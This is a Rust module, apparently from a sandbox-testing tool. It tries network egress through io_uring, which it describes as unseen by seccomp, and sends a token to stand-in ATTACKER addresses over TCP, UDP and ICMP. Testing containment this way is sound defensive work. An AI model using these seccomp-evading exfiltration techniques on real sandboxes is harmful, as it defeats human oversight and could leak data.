//! Sockets by `io_uring`, whose operations no seccomp filter sees.

use super::call::{at, inet};
use super::{Aim, Failure, Layer, Technique};
use crate::sys::attempt::ring::Ring;
use crate::verify::ground::{ATTACKER, ATTACKER_V6};

pub(super) const ROWS: &[Technique] = &[
    Technique::wire("ring-tcp", "TCP by io_uring", "39", RING, |a| tcp(a, false)).optional(),
    Technique::wire("ring-tcp-polled", "TCP by io_uring's kernel thread", "39", RING, |a| {
        tcp(a, true)
    })
    .optional(),
    Technique::wire("ring-udp", "UDP by io_uring", "39", RING, |a| {
        let ring = ring(false)?;
        let fd = ring.socket(libc::AF_INET6, libc::SOCK_DGRAM, 0).map_err(at("socket"))?;
        ring.send_to(&fd, a.token.as_bytes(), &inet(ATTACKER_V6, 443)).map_err(at("sendmsg"))
    })
    .optional(),
    Technique::wire("ring-icmp", "a ping socket by io_uring", "12 39", RING, |a| {
        let ring = ring(false)?;
        let fd = ring
            .socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP)
            .map_err(at("socket"))?;
        let echo = [&[8, 0, 0, 0, 0, 1, 0, 1], a.token.as_bytes()].concat();
        ring.send_to(&fd, &echo, &inet(ATTACKER, 0)).map_err(at("sendmsg"))
    })
    .optional(),
    Technique::calls("ring-vsock", "vsock by io_uring", "22 39", RING, |_| {
        ring(false)?.socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0).map_err(at("socket")).map(drop)
    })
    .optional()
    .root_may("cgroup programs judge inet sockets only; no role can set up a ring"),
];

fn ring(polled: bool) -> Result<Ring, Failure> {
    Ring::new(polled).map_err(at("io_uring_setup"))
}

fn tcp(aim: &Aim, polled: bool) -> Result<(), Failure> {
    let ring = ring(polled)?;
    let fd = ring.socket(libc::AF_INET, libc::SOCK_STREAM, 0).map_err(at("socket"))?;
    ring.connect(&fd, &inet(ATTACKER, 443)).map_err(at("connect"))?;
    ring.send(&fd, aim.token.as_bytes()).map_err(at("send"))
}

const RING: &[Layer] = &[Layer::Seccomp, Layer::Cgroup];
